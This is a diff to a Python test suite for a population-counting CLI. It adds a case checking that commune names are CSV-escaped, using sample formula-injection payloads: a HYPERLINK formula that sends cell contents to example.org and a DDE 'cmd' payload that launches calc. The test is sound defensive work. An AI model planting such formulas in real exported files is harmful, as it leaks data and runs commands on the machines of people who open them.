@@ -657,6 +657,11 @@ CASES: list[Case] = [
          lambda e: e.count("--commune", "Beau\nsoleil"), ExitCode.COMMUNE, "'Beau\\nsoleil'"),
     Case("right-to-left override in a commune name",
          lambda e: e.count("--commune", "Beau\u202esoleil"), ExitCode.COMMUNE, "'Beau\\u202esoleil'"),
+    Case("commune names a spreadsheet would run as formulas",  # were written as they are
+         lambda e: ["count", "--all", "--include-partial", "--pbf", e.monaco, "-o", e.tmp / "t.csv",
+                    "--boundaries", e.squares(*zip(("M01", "M02", "M03"), FORMULAS))],
+         ExitCode.OK, "3 communes have no population",
+         holds=lambda e: [r["name"] for r in _csv_rows(e.tmp / "t.csv")] == ["'" + f for f in FORMULAS]),
     # Issue 7 §4: errors that are one clear line.
     Case("boundary features without a code",
          lambda e: e.count("--department", "06", boundaries=e.border(_no_code)),
@@ -1134,6 +1139,16 @@ def _osc(*created: tuple[Any, ...]) -> str:
     from fake_replication import Obj, osc
 
     return osc(create=[Obj(*fields) for fields in created])
+
+
+FORMULAS = ('=HYPERLINK("http://example.org/?"&A1,"Voir")', "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)")
+
+
+def _csv_rows(path: Path) -> list[dict[str, str]]:
+    import csv
+
+    with path.open(newline="", encoding="utf-8") as stream:
+        return list(csv.DictReader(stream))
 
 
 def _comment_bomb(mib: int) -> bytes:
